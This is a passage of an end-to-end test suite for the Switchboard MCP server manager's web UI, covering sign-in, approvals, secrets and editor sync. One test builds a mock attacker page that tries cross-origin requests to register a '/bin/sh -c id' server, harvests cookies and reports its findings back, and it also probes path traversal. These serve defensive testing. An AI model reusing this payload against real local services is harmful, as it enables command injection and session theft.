import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.ts';
import { everythingServer, fixtureServer, waitFor } from '../helpers/servers.ts';
import type { TempHome } from '../helpers/temp-home.ts';
import { ARTIFACTS, SESSION_STORAGE_KEY, type Figure, writeFigures } from './browser.ts';
import { screenshot } from './screenshots.ts';
import { useSignedInServe, VIEWPORT } from './signed-in-serve.ts';

/**
 * The UI end to end: Debian's Chromium (playwright-core) against a real `switchboard serve` with real
 * MCP servers, a real keychain and a temp HOME. The steps build on each other, in order, the way a
 * newcomer would go: sign in with the printed link, add a server, approve it, watch it run.
 */

const SERVERS_PAINTED = 'switchboard:servers-painted';
/** What people paste from a README: runs through npx, its token from the keychain. Never started here. */
const GITHUB = {
  command: 'npx',
  args: ['-y', '@modelcontextprotocol/server-github'],
  env: { GITHUB_PERSONAL_ACCESS_TOKEN: '${secret:github-token}' },
};

let t: TempHome;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let origin: string;
let loginUrl: string;
const secretName = `sb-e2e-${Math.random().toString(36).slice(2, 8)}`;
const secretValue = `e2e-canary-${Math.random().toString(36).slice(2)}-value`;
let consoleProblems: string[];
const ZED_SETTINGS = '// my Zed settings\n{\n  "theme": "One Dark", // keep me\n  "context_servers": {}\n}\n';
let pendingColumns: number[] = [];
const figures: Record<string, Figure> = {};

/** A screenshot of `on` (default: the page); with `docs` also for docs/screenshots. */
function shot(name: string, options: { docs?: string; on?: Page } = {}): Promise<void> {
  return screenshot(options.on ?? page, name, options.docs ? { as: options.docs, home: t } : undefined);
}

/** Where each column of the servers table starts: fixed widths keep these put whatever the rows show. */
function columnEdges(): Promise<number[]> {
  return page.evaluate(
    "[...document.querySelectorAll('table.servers thead th')].map((th) => Math.round(th.getBoundingClientRect().left))",
  );
}

function row(name: string) {
  return page.locator(`tbody[data-server="${name}"]`);
}

async function stateOf(name: string): Promise<string | null> {
  return row(name).locator('.state').getAttribute('data-state');
}

/** A section link in the sidebar. */
function nav(section: 'Servers' | 'Approvals' | 'Editors' | 'Secrets' | 'Settings') {
  return page
    .getByRole('navigation', { name: 'Sections' })
    .getByRole('link', { name: new RegExp(`^${section}`) });
}

function heading(name: string) {
  return page.getByRole('heading', { name, exact: true });
}

/** In-app navigation (a hash change, no reload). Page-side code is a string: this file has no DOM types. */
async function go(hash: string): Promise<void> {
  await page.evaluate(`window.location.hash = ${JSON.stringify(hash)}`);
}

// Signs in in its own step (the one-time link is what that step checks).
const e2e = useSignedInServe({
  name: 'ui',
  viewport: VIEWPORT,
  editorSyncNoticeAnswered: true,
  signIn: false,
  prepare(t) {
    // An editor in the temp HOME: Zed, with a settings file of the user's own (its comments must stay).
    mkdirSync(join(t.dir, 'user', '.config', 'zed'), { recursive: true });
    writeFileSync(join(t.dir, 'user', '.config', 'zed', 'settings.json'), ZED_SETTINGS);
  },
});
beforeAll(() => {
  ({ t, browser, context, page, origin, link: loginUrl, problems: consoleProblems } = e2e);
});

afterAll(() => {
  if (Object.keys(figures).length)
    writeFigures(
      'figures.json',
      browser,
      'First meaningful paint of the Servers view: from navigation start to the first frame painted ' +
        'with the server list showing live data from `switchboard serve` (4 servers, 3 of them real MCP ' +
        'servers running), read from the page\'s performance mark "switchboard:servers-painted" ' +
        '(test/e2e/ui.test.ts). Production build of the UI, served by `switchboard serve` on 127.0.0.1.',
      figures,
    );
});

describe('the UI in Chromium against a real `switchboard serve`', () => {
  it('serves the built UI with a strict CSP, and the API only to the signed-in', async () => {
    const index = await fetch(`${origin}/`);
    expect(index.status).toBe(200);
    expect(index.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(index.headers.get('cache-control')).toBe('no-store');
    const csp = index.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toContain('unsafe-eval');
    const html = await index.text();
    const script = /src="\.\/(assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeDefined();
    const asset = await fetch(`${origin}/${script}`);
    expect(asset.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(asset.headers.get('cache-control')).toContain('immutable');
    expect((await fetch(`${origin}/assets/../../package.json`)).status).toBe(404);
    expect((await fetch(`${origin}/api/status`)).status).toBe(401);
  });

  it('signs in with the printed one-time link: a key only this origin can read, no cookie, nothing left in the address bar', async () => {
    await page.goto(loginUrl);
    await heading('Servers').waitFor();
    expect(page.url()).toBe(`${origin}/`);
    // The code is gone from the history too: going back does not reach it.
    await page.goBack();
    expect(page.url()).not.toContain('code=');
    await page.goForward();
    await heading('Servers').waitFor();
    expect(await context.cookies()).toEqual([]);
    expect(await page.evaluate('document.cookie')).toBe('');
    const stored = JSON.parse(
      String(await page.evaluate(`localStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)})`)),
    ) as { session: string; expiresAt: number };
    expect(stored.session).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(stored.expiresAt).toBeGreaterThan(Date.now() + 29 * 24 * 3_600_000);
    // That key is the credential, sent as a header: with it the API answers, without it not.
    expect((await fetch(`${origin}/api/status`)).status).toBe(401);
    const withKey = await fetch(`${origin}/api/status`, {
      headers: { authorization: `Bearer ${stored.session}` },
    });
    expect(withKey.status).toBe(200);
    await page.getByText('No servers yet').waitFor();
    await shot('01-servers-empty');

    // The code worked once: a second browser gets the "link expired" sign-in page.
    const other = await browser.newContext();
    const second = await other.newPage();
    await second.goto(loginUrl);
    await second.getByRole('heading', { name: 'Sign in to Switchboard', exact: true }).waitFor();
    await second.getByText('already used or has expired').waitFor();
    expect(second.url()).toBe(`${origin}/`);
    expect(await second.evaluate('localStorage.length')).toBe(0);
    await second.screenshot({ path: join(ARTIFACTS, '00-signed-out.png') });
    await other.close();
  });

  it('a page on another port of 127.0.0.1, opened in the signed-in browser, gets nothing and can do nothing', async () => {
    // Another local user's web server: its page redirects once to itself (so the browser's second
    // request carries whatever it holds for 127.0.0.1), then tries to act on Switchboard from inside
    // the browser. It keeps every Cookie header it sees and what its script found.
    const harvested: string[] = [];
    let report: Record<string, string> | undefined;
    const target = origin;
    const script = `(async () => {
      const body = JSON.stringify({ name: 'pwned', config: { command: '/bin/sh', args: ['-c', 'id'] } });
      const found = {};
      try {
        const r = await fetch('${target}/api/servers', { method: 'POST', credentials: 'include',
          headers: { 'content-type': 'application/json' }, body });
        found.cors = 'answered ' + r.status;
      } catch { found.cors = 'blocked'; }
      try {
        await fetch('${target}/api/servers', { method: 'POST', mode: 'no-cors', credentials: 'include',
          headers: { 'content-type': 'text/plain' }, body });
        found.simple = 'sent';
      } catch { found.simple = 'blocked'; }
      try {
        const r = await fetch('${target}/api/status', { credentials: 'include' });
        found.read = 'answered ' + r.status;
      } catch { found.read = 'blocked'; }
      found.storage = String(localStorage.length) + ' ' + document.cookie;
      await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
    })();`;
    const attacker = createServer((req, res) => {
      if (req.headers.cookie) harvested.push(req.headers.cookie);
      if (req.url === '/report') {
        let text = '';
        req.on('data', (d: Buffer) => (text += d.toString()));
        req.on('end', () => {
          report = JSON.parse(text) as Record<string, string>;
          res.end();
        });
        return;
      }
      if (req.url === '/') return void res.writeHead(302, { location: '/again' }).end();
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<p>a page</p><script>${script}</script>`);
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const address = attacker.address();
    const attackerUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/`;
    const tab = await context.newPage();
    try {
      await tab.goto(attackerUrl);
      await waitFor(() => report, 15_000, "the other port's page to report");
      expect(report).toMatchObject({ cors: 'blocked', read: 'blocked', storage: '0 ' });
      // What its owner got, replayed from outside the browser with Switchboard's own Origin forged.
      const stolen = harvested.at(-1);
      const add = await fetch(`${origin}/api/servers`, {
        method: 'POST',
        headers: {
          ...(stolen ? { cookie: stolen } : {}),
          origin,
          'content-type': 'application/json',
        },
        body: JSON.stringify({ name: 'pwned', config: { command: '/bin/sh', args: ['-c', 'id'] } }),
      });
      expect(add.status).toBe(401);
      expect(harvested.join('\n')).not.toContain('switchboard');
    } finally {
      await tab.close();
      await new Promise<void>((resolve) => attacker.close(() => resolve()));
    }
    expect(existsSync(t.home.serversFile) ? readFileSync(t.home.serversFile, 'utf8') : '').not.toContain(
      'pwned',
    );
    // and the person's own page is still signed in and shows nothing new
    await page.reload();
    await page.getByText('No servers yet').waitFor();
  });

  it('adds server-everything through the form; it appears waiting for approval', async () => {
    const { command, args } = everythingServer();
    await page.getByRole('link', { name: 'Add server' }).first().click();
    await heading('Add a server').waitFor();
    await page.getByLabel('Name').fill('everything');
    await page.getByLabel('Command').fill(command);
    await page.getByLabel('Arguments').fill(args.join('\n'));
    await shot('02-add-server');
    await page.getByRole('button', { name: 'Add server' }).click();
    await page.getByText('Waiting for your approval.').waitFor();
    const written = readFileSync(t.home.serversFile, 'utf8');
    expect(JSON.parse(written)).toMatchObject({ mcpServers: { everything: { command, args } } });

    await nav('Servers').click();
    await row('everything').waitFor();
    expect(await stateOf('everything')).toBe('pending-approval');
    pendingColumns = await columnEdges();
    await expect.poll(() => page.getByTestId('approvals-badge').textContent()).toBe('1');
  });

  it('shows the exact command line on the approval, and runs the server once approved', async () => {
    const { command, args } = everythingServer();
    await nav('Approvals').click();
    const card = page.locator('article[data-approval="everything"]');
    await card.waitFor();
    expect(await card.getByTestId('approval-command').textContent()).toBe(
      `command: ${command} ${args.join(' ')}\nruns in: ${join(t.home.data, 'everything')} (its own folder)`,
    );
    await card.getByText('this window (added or changed here)').waitFor();
    await shot('03-approvals');
    await card.getByRole('button', { name: 'Approve everything' }).click();
    await page.getByText('Nothing waits for approval').waitFor();
    await expect.poll(() => page.getByTestId('approvals-badge').count()).toBe(0);

    await nav('Servers').click();
    await waitFor(async () => (await stateOf('everything')) === 'running', 45_000, 'everything running');
    await waitFor(
      async () => Number(await row('everything').locator('td.num').nth(1).textContent()) > 3,
      10_000,
      'tools counted',
    );
    await expect.poll(() => row('everything').locator('.timing').textContent()).toMatch(/^up \d+ s$/);
    // Other buttons, a ticking uptime, a tool count: the columns stay where they were.
    expect(await columnEdges()).toEqual(pendingColumns);
    // The enabled switch has a visible column header and a name of its own.
    await page.getByRole('columnheader', { name: 'Enabled' }).waitFor();
    expect(await page.getByRole('switch', { name: 'everything enabled' }).isChecked()).toBe(true);
    await shot('04-servers-running');
  });

  it('lists the tools the running server exposes', async () => {
    await row('everything').getByRole('link', { name: 'everything', exact: true }).click();
    await page
      .getByRole('navigation', { name: 'everything sections' })
      .getByRole('link', { name: /^Tools/ })
      .click();
    const tools = page.getByTestId('tools-list');
    await tools.waitFor();
    await tools.getByRole('heading', { name: 'echo', exact: true }).waitFor();
    await tools.getByRole('heading', { name: 'get-sum', exact: true }).waitFor();
    await shot('05-server-tools');
  });

  it('streams the log live: a restart shows up without reloading', async () => {
    await page
      .getByRole('navigation', { name: 'everything sections' })
      .getByRole('link', { name: 'Logs' })
      .click();
    const log = page.getByRole('log', { name: 'Log of everything' });
    await log
      .getByText(/running: initialize answered/)
      .first()
      .waitFor();
    const before = await page.getByTestId('log-count').textContent();
    await page.getByRole('button', { name: 'Restart everything' }).click();
    await log.getByText('restarting', { exact: true }).waitFor({ timeout: 30_000 });
    await waitFor(
      async () => (await log.getByText(/running: initialize answered/).count()) >= 2,
      45_000,
      'second start in the log',
    );
    expect(await page.getByTestId('log-count').textContent()).not.toBe(before);
    // A line longer than the view (the spawn line with its full command) can be read to its end: the
    // rows are as wide as the longest line and scroll sideways, and hovering a row shows all of it.
    const spawned = log.locator('.log-row', { hasText: 'spawned pid' }).first();
    const fit = (await page.evaluate(`(() => {
      const scroll = document.querySelector('.log-scroll');
      const rows = scroll.querySelector('.log-rows').getBoundingClientRect();
      const ends = [...scroll.querySelectorAll('.log-text')].map((t) => t.getBoundingClientRect().right);
      return { wider: scroll.scrollWidth > scroll.clientWidth, rowsRight: rows.right, textRight: Math.max(...ends) };
    })()`)) as { wider: boolean; rowsRight: number; textRight: number };
    expect(fit.wider).toBe(true);
    expect(fit.textRight).toBeLessThanOrEqual(fit.rowsRight + 1);
    expect(await spawned.getAttribute('title')).toMatch(/^spawned pid \d+: .*server-everything.* stdio$/);
    // Search and level filter.
    await page.getByLabel('Search').fill('restarting');
    await expect.poll(() => page.getByTestId('log-count').textContent()).toMatch(/^1 of \d+ lines$/);
    await page.getByLabel('Search').fill('');
    await page.getByLabel('Level').selectOption('error');
    await log.getByText('No line matches the search and level filter.').waitFor();
    await page.getByLabel('Level').selectOption('all');
    await shot('06-server-logs');
  });

  it('shows a hand edit of servers.json live, and an invalid one as an error with line and column', async () => {
    const text = readFileSync(t.home.serversFile, 'utf8');
    const echo = fixtureServer('env-echo-server.mjs', 'CANARY');
    const edited = text.replace(
      '"mcpServers": {',
      `"mcpServers": {\n    // added by hand\n    "second": ${JSON.stringify(echo)},`,
    );
    writeFileSync(t.home.serversFile, edited);
    await nav('Servers').click();
    await row('second').waitFor({ timeout: 15_000 });
    expect(await stateOf('second')).toBe('pending-approval');
    await row('second').getByRole('link', { name: 'Review second in Approvals' }).click();
    await page.getByRole('button', { name: 'Approve second' }).click();
    await go('#/servers');
    await waitFor(async () => (await stateOf('second')) === 'running', 30_000, 'second running');

    writeFileSync(t.home.serversFile, edited.replace('"second": {', '"second": { "bogus": true,'));
    const banner = page.getByRole('alert').filter({ hasText: 'servers.json has errors' });
    await banner.waitFor({ timeout: 15_000 });
    await banner.getByText(/servers\.json:\d+:\d+: server "second": unknown field "bogus"/).waitFor();
    expect(await stateOf('everything')).toBe('running');
    await shot('07-config-error');
    writeFileSync(t.home.serversFile, edited);
    await banner.waitFor({ state: 'detached', timeout: 15_000 });
  });

  it('shows an invalid edit at the field, in the form and in the raw JSON editor', async () => {
    await go('#/servers/everything');
    const command = page.getByLabel('Command');
    await command.waitFor();
    await command.fill('npx -y @modelcontextprotocol/server-everything');
    const error = page.locator('.field-error', { hasText: 'put arguments in "args"' });
    await error.waitFor();
    expect(await command.getAttribute('aria-invalid')).toBe('true');
    expect(await command.getAttribute('aria-describedby')).toBe(await error.getAttribute('id'));
    await page.getByRole('button', { name: 'Move the arguments to “Arguments”' }).waitFor();
    await shot('08-invalid-field');
    await page.getByRole('button', { name: 'Discard' }).click();
    await expect.poll(() => command.inputValue()).toBe(everythingServer().command);

    await page.getByRole('button', { name: 'JSON', exact: true }).click();
    const editor = page.locator('.cm-content');
    await editor.waitFor();
    await editor.click();
    // Make "args" a string: the zod schema wants an array.
    await page.keyboard.press('Control+a');
    await page.keyboard.insertText('{\n  "command": "node",\n  "args": "not-a-list"\n}');
    const problems = page.getByTestId('json-problems');
    // The same clear words as the form, not zod's "Invalid input: expected array, received string".
    await problems
      .getByText(
        'args: must be a list of strings, one per argument, like ["-y", "some-package"] (found a string)',
      )
      .waitFor();
    await page.locator('.cm-lintRange-error').first().waitFor();
    expect(await page.getByRole('button', { name: 'Save to servers.json' }).isDisabled()).toBe(true);
    await shot('09-json-invalid');
    await page.getByRole('button', { name: 'Discard' }).click();
    await page.getByText('Valid: matches the servers.json schema.').waitFor();
    await page.getByRole('button', { name: 'Form', exact: true }).click();
  });

  it('lists a server pasted from a README (npx, a keychain reference) for approval, without running it', async () => {
    const text = readFileSync(t.home.serversFile, 'utf8');
    writeFileSync(
      t.home.serversFile,
      text.replace('"mcpServers": {', `"mcpServers": {\n    "github": ${JSON.stringify(GITHUB)},`),
    );
    await nav('Servers').click();
    await row('github').waitFor({ timeout: 15_000 });
    expect(await stateOf('github')).toBe('pending-approval');
    await nav('Approvals').click();
    const card = page.locator('article[data-approval="github"]');
    // npx as PATH resolves it: the exact program that would run (and the real file, where npx is a
    // symlink, as it is in most installs).
    expect(await card.getByTestId('approval-command').textContent()).toMatch(
      /^command: \/\S*\/npx -y @modelcontextprotocol\/server-github\n(?:real file: \/\S+\n)?runs in: \/\S+\/data\/github \(its own folder\)\nenv GITHUB_PERSONAL_ACCESS_TOKEN=\$\{secret:github-token\}$/,
    );
    expect(await card.getByTestId('approval-references').textContent()).toMatch(
      /^gives your keychain secret "github-token" to \/\S+ in env GITHUB_PERSONAL_ACCESS_TOKEN$/,
    );
    await card.getByText('new server').waitFor();
  });

  it('stores a secret the server needs and restarts the server with it', async () => {
    // Give "second" a secret reference through the form (a comment-preserving edit of servers.json).
    await go('#/servers/second');
    await page.getByRole('button', { name: 'Add variable' }).click();
    await page.getByLabel('variable 1 name').fill('CANARY');
    await page.getByLabel('variable CANARY value').fill(`\${secret:${secretName}}`);
    await page.getByRole('button', { name: 'Save to servers.json' }).click();
    await page.getByText('Saved. Changes that affect what runs need approval.').waitFor();
    const file = readFileSync(t.home.serversFile, 'utf8');
    expect(file).toContain('// added by hand');
    expect(file).toContain(`"CANARY": "\${secret:${secretName}}"`);

    await nav('Approvals').click();
    const card = page.locator('article[data-approval="second"]');
    await card.getByText(`env CANARY=\${secret:${secretName}}`).first().waitFor();
    // It was approved before: the card shows what changed since.
    await card.getByText(/changed since you approved it/).waitFor();
    await card.locator('.diff-added', { hasText: `env CANARY=\${secret:${secretName}}` }).waitFor();
    await shot('03-approvals-diff', { docs: 'approvals' });
    await card.getByRole('button', { name: 'Approve second' }).click();
    await card.waitFor({ state: 'detached' });
    await go('#/servers');
    await waitFor(
      async () => (await stateOf('second')) === 'error',
      30_000,
      'second in error (no secret yet)',
    );
    await row('second').getByText(`the keychain has no secret named "${secretName}"`).waitFor();

    await nav('Secrets').click();
    const missing = page.locator(`tr[data-secret="${secretName}"]`);
    await missing.getByText(/missing/).waitFor();
    await missing.getByRole('link', { name: 'second' }).waitFor();
    await missing.getByRole('button', { name: `Add ${secretName}` }).click();
    await page.getByLabel('Value').fill(secretValue);
    await shot('10-secrets');
    await page.getByRole('button', { name: 'Store in keychain' }).click();
    await page.getByText(`Stored “${secretName}” in the keychain. Restarted second to use it.`).waitFor();
    await missing.getByText('✓ stored').waitFor();
    expect(await page.content()).not.toContain(secretValue);

    await go('#/servers');
    await waitFor(
      async () => (await stateOf('second')) === 'running',
      30_000,
      'second running with its secret',
    );
    await go('#/servers/second/logs');
    await page.getByRole('log').getByText('env-echo starting with CANARY=[redacted]').waitFor();
    expect(await page.content()).not.toContain(secretValue);
  });

  it('offers "store in keychain" for a literal secret and moves it', async () => {
    const text = readFileSync(t.home.serversFile, 'utf8');
    const literal = `ghp_${'a1B2c3D4e5'.repeat(4)}`;
    const echo = fixtureServer('env-echo-server.mjs', 'GITHUB_TOKEN');
    writeFileSync(
      t.home.serversFile,
      text.replace(
        '"mcpServers": {',
        `"mcpServers": {\n    "pasted": ${JSON.stringify({ ...echo, env: { GITHUB_TOKEN: literal } })},`,
      ),
    );
    await go('#/servers/pasted');
    const offer = page.locator('.secret-offer');
    await offer.waitFor({ timeout: 15_000 });
    expect(await page.content()).not.toContain(literal);
    await offer.getByRole('button', { name: 'Store in keychain' }).click();
    await page.getByText(/Stored in the keychain as/).waitFor();
    const file = readFileSync(t.home.serversFile, 'utf8');
    expect(file).not.toContain(literal);
    expect(file).toContain('"GITHUB_TOKEN":"${secret:pasted-github_token}"');
    await expect.poll(() => page.locator('h1 .state').getAttribute('data-state')).toBe('pending-approval');

    // A key on the command line (`--api-key sk-…`): the same offer, at the argument.
    const key = `sk-live-${'4f8a9c2e7b1d'.repeat(2)}`;
    const current = readFileSync(t.home.serversFile, 'utf8');
    const flagged = { ...echo, args: [...echo.args, '--api-key', key] };
    writeFileSync(
      t.home.serversFile,
      current.replace('"mcpServers": {', `"mcpServers": {\n    "keyed": ${JSON.stringify(flagged)},`),
    );
    await go('#/servers/keyed');
    const argOffer = page.locator('.secret-offer[data-secret-key="args[3]"]');
    await argOffer.getByText('Argument 4 holds a literal secret').waitFor({ timeout: 15_000 });
    expect(await page.content()).not.toContain(key);
    await argOffer.getByRole('button', { name: 'Store in keychain' }).click();
    await page.getByText(/Stored in the keychain as/).waitFor();
    expect(readFileSync(t.home.serversFile, 'utf8')).not.toContain(key);
    const stored = (await page.locator('.banner.ok code').first().textContent()) ?? '';
    expect(readFileSync(t.home.serversFile, 'utf8')).toContain(`"\${secret:${stored}}"`);
    // Secrets says where it is used, in the words of the form.
    await go('#/secrets');
    await page.locator(`tr[data-secret="${stored}"]`).getByText('argument 4', { exact: true }).waitFor();
    // Not part of the rest of the story: gone again, with its secret.
    for (const args of [
      ['remove', 'keyed'],
      ['secret', 'rm', stored],
    ]) {
      const done = await runCli(args, t.env);
      expect(done.code, done.stderr).toBe(0);
    }
  });

  it('opens the approval a notification or install link points at (#/approvals/NAME), or says it no longer waits', async () => {
    // A short window, so the second card starts below the fold: the link must bring it into view.
    const height = 450;
    await page.setViewportSize({ width: VIEWPORT.width, height });
    const focused = () =>
      page.evaluate(
        "document.activeElement?.closest('[data-approval]')?.getAttribute('data-approval') ?? null",
      );
    const inView = async (name: string) => {
      const box = await page.locator(`article[data-approval="${name}"]`).boundingBox();
      // (a card scrolled to the top may sit a fraction of a pixel above it: layout is in subpixels)
      return box !== null && box.y > -1 && box.y + Math.min(box.height, 200) <= height;
    };
    try {
      // The desktop app opening its window on the link (a fresh load of the page).
      await page.goto(`${origin}/#/approvals/github`);
      const github = page.locator('article[data-approval="github"]');
      await github.waitFor();
      await expect.poll(focused).toBe('github');
      expect(await inView('github')).toBe(true);
      expect(Number(await page.evaluate('window.scrollY'))).toBeGreaterThan(0);
      expect(await github.getAttribute('class')).toContain('targeted');
      await shot('15-approval-deep-link');

      // The window already open: the app sets the hash.
      await go('#/approvals/pasted');
      await expect.poll(focused).toBe('pasted');
      expect(await inView('pasted')).toBe(true);
      const notice = page.getByTestId('approval-notice');
      expect(await notice.count()).toBe(0);

      // Approved elsewhere (the notification's button, the CLI) while this is open: the view says so.
      const approve = await runCli(['approve', 'pasted', '--yes'], t.env);
      expect(approve.code, approve.stderr).toBe(0);
      await notice.getByText('“pasted” is no longer waiting for approval').waitFor();
      await page.locator('article[data-approval="pasted"]').waitFor({ state: 'detached' });

      // A server that was removed since the notification was shown.
      await go('#/approvals/retired');
      await notice.getByText('There is no server named “retired” any more').waitFor();
      expect(await page.evaluate("document.activeElement?.getAttribute('data-testid')")).toBe(
        'approval-notice',
      );
    } finally {
      await page.setViewportSize(VIEWPORT);
    }
  });

  it('shows the editors found in the temp HOME with their sync state and the diff a sync would make', async () => {
    // Zed was there from the start: `serve` synced it as servers were approved, keeping its comments.
    await nav('Editors').click();
    await heading('Editors').waitFor();
    const zed = page.locator('article[data-editor="zed"]');
    await expect
      .poll(() => zed.locator('.state').getAttribute('data-state'), { timeout: 15_000 })
      .toBe('in-sync');
    await zed.getByText('everything', { exact: true }).waitFor();
    // The servers it gets, as a list (not names run together).
    // (Each chip is the server's name and its Exclude button.)
    expect(
      await zed
        .getByRole('list', { name: 'Servers' })
        .getByRole('listitem')
        .locator('> span')
        .allTextContents(),
    ).toEqual(expect.arrayContaining(['everything', 'second']));
    const zedFile = readFileSync(join(t.dir, 'user', '.config', 'zed', 'settings.json'), 'utf8');
    expect(zedFile).toContain('// keep me');
    expect(zedFile).toContain('"everything"');

    // Cursor is installed now: not synced yet, with the diff a sync would make.
    mkdirSync(join(t.dir, 'user', '.cursor'), { recursive: true });
    await page.reload();
    const cursor = page.locator('article[data-editor="cursor"]');
    await expect.poll(() => cursor.locator('.state').getAttribute('data-state')).toBe('not-synced');
    await cursor
      .getByTestId('diff-cursor')
      .getByText(/^\+.*"everything"/)
      .waitFor();
    await shot('11-editors');
    await cursor.getByRole('button', { name: 'Sync Cursor now' }).click();
    await expect
      .poll(() => cursor.locator('.state').getAttribute('data-state'), { timeout: 15_000 })
      .toBe('in-sync');
    expect(readFileSync(join(t.dir, 'user', '.cursor', 'mcp.json'), 'utf8')).toContain('"everything"');
    await page.getByText('Updated cursor.').waitFor();
    await cursor.getByText('Its bridge token is written in this file.').waitFor();

    // Codex CLI (a TOML file) is installed too: its card says the file holds no token (Codex runs
    // Switchboard's header helper); a sync writes its [mcp_servers.NAME] table.
    mkdirSync(join(t.dir, 'user', '.codex'), { recursive: true });
    await page.reload();
    const codex = page.locator('article[data-editor="codex"]');
    await expect.poll(() => codex.locator('.state').getAttribute('data-state')).toBe('not-synced');
    await codex
      .getByText('No token in this file: Codex CLI reads it from Switchboard when it connects.')
      .waitFor();
    await codex.getByRole('button', { name: 'Sync Codex CLI now' }).click();
    await expect
      .poll(() => codex.locator('.state').getAttribute('data-state'), { timeout: 15_000 })
      .toBe('in-sync');
    expect(readFileSync(join(t.dir, 'user', '.codex', 'config.toml'), 'utf8')).toContain(
      '[mcp_servers.everything]',
    );
    // Every other supported editor is listed, with the file it would get.
    await page.getByText(/^Not installed \(/).click();
    await page.getByText('Goose', { exact: false }).first().waitFor();
    await page.getByText(join(t.dir, 'user', '.continue', 'config.yaml')).waitFor();

    // Restore Zed's file from the backup taken before Switchboard first wrote it: the user's bytes
    // come back and sync is off for Zed until turned on again.
    await zed.getByText(/^Backups/).click();
    await zed.getByRole('button', { name: 'Restore' }).click();
    await zed.getByRole('button', { name: 'Restore Zed’s file from this backup' }).click();
    await expect
      .poll(() => zed.locator('.state').getAttribute('data-state'), { timeout: 15_000 })
      .toBe('disabled');
    expect(readFileSync(join(t.dir, 'user', '.config', 'zed', 'settings.json'), 'utf8')).toBe(ZED_SETTINGS);
  });

  it('has settings with the bridge port and editor tokens, and a Tab order that reaches every section', async () => {
    await nav('Settings').click();
    await page.getByLabel('Port').waitFor();
    // Headless mode: no login item to switch, and the page says why.
    await page.getByText('Only in the desktop app').waitFor();
    expect(await page.getByRole('switch', { name: /log in/ }).count()).toBe(0);
    // The one switch for automatic editor sync: off lands in state.json, and on again.
    const autoSync = page.getByRole('switch', { name: 'Sync editors automatically' });
    expect(await autoSync.isChecked()).toBe(true);
    await autoSync.click();
    await page.getByText('change only when you sync them').waitFor();
    // The switch shows what was asked for while the answer is on its way: the file follows it.
    const saved = () => (JSON.parse(readFileSync(t.home.stateFile, 'utf8')) as { settings: object }).settings;
    await expect.poll(saved).toMatchObject({ autoSync: false });
    await autoSync.click();
    await page.getByText('gets each server you approve').waitFor();
    await expect.poll(saved).not.toHaveProperty('autoSync');
    // The idle time: a value it cannot take turns its save off and says why; a good one is saved, and
    // "Back to the default" takes it out again.
    const idleForm = page.getByRole('form', { name: 'Idle servers' });
    const idle = idleForm.getByLabel('Stop after (minutes without requests)');
    const saveIdle = idleForm.getByRole('button', { name: 'Save idle timeout' });
    await idle.fill('-1');
    await idleForm.getByText('a number of minutes from 0 (always running) to 10080 (a week)').waitFor();
    expect(await saveIdle.isDisabled()).toBe(true);
    await idle.fill('5');
    await saveIdle.click();
    await idleForm.getByText('Saved; running servers follow it now.').waitFor();
    await expect.poll(saved).toMatchObject({ idleTimeout: 300 });
    await idleForm.getByRole('button', { name: 'Back to the default' }).click();
    await expect.poll(saved).not.toHaveProperty('idleTimeout');
    // The catalog's registry: an address it cannot use is refused with the reason and nothing is
    // saved; a good one lands in state.json, and empty goes back to the official registry.
    const registryForm = page.getByTestId('registry-setting');
    const registryField = registryForm.getByLabel('Registry address');
    const saveRegistry = registryForm.getByRole('button', { name: 'Save registry' });
    const registrySaved = () =>
      (JSON.parse(readFileSync(t.home.stateFile, 'utf8')) as { catalog?: { registryUrl?: string } }).catalog
        ?.registryUrl;
    await registryField.fill('ftp://registry.example.test');
    await saveRegistry.click();
    await registryForm
      .getByRole('alert')
      .getByText(/is not an http:\/\/ or https:\/\/ address/)
      .waitFor();
    expect(registrySaved()).toBeUndefined();
    await registryField.fill('https://registry.example.test/mcp/');
    await saveRegistry.click();
    await registryForm.getByText('Saved to state.json.').waitFor();
    await expect.poll(registrySaved).toBe('https://registry.example.test/mcp');
    await registryField.fill('');
    await saveRegistry.click();
    await expect.poll(registrySaved).toBeUndefined();
    // This browser's sign-in: how long it lasts, and how to end it.
    const browsers = page.getByTestId('browser-sign-ins');
    await browsers.getByText(/This one until/).waitFor();
    await browsers.getByRole('button', { name: 'Sign out this browser' }).waitFor();
    const tokens = page.getByTestId('tokens-table');
    await tokens.getByRole('rowheader', { name: 'cursor' }).waitFor();
    await shot('12-settings');
    const before = readFileSync(join(t.home.tokens, 'editors', 'cursor'), 'utf8');
    const cursorRow = tokens
      .getByRole('row')
      .filter({ has: page.getByRole('rowheader', { name: 'cursor' }) });
    await cursorRow.getByRole('button', { name: 'Rotate' }).click();
    await page.getByRole('button', { name: 'Rotate cursor’s token' }).click();
    await page.getByText('Issued a new token for cursor.').waitFor();
    expect(readFileSync(join(t.home.tokens, 'editors', 'cursor'), 'utf8')).not.toBe(before);
    await cursorRow.getByRole('button', { name: 'Revoke' }).click();
    await page.getByRole('button', { name: 'Revoke cursor’s token' }).click();
    await page.getByText('Revoked cursor’s token.').waitFor();
    await tokens.getByRole('rowheader', { name: 'cursor' }).waitFor({ state: 'detached' });
    expect(await page.content()).not.toContain(before.trim());
    // Keyboard only: from the top of the page to "Add server" and into the form. A fresh load, so the
    // walk starts at the top: after a same-page hash change Chromium starts it where the last focused
    // element was, which made the count depend on timing (and skipped the sidebar).
    await page.goto('about:blank');
    await page.goto(`${origin}/#/servers`);
    await heading('Servers').waitFor();
    let reached = false;
    for (let i = 0; i < 20 && !reached; i++) {
      await page.keyboard.press('Tab');
      reached = (await page.evaluate("document.activeElement?.textContent === 'Add server'")) === true;
    }
    expect(reached).toBe(true);
    await page.keyboard.press('Enter');
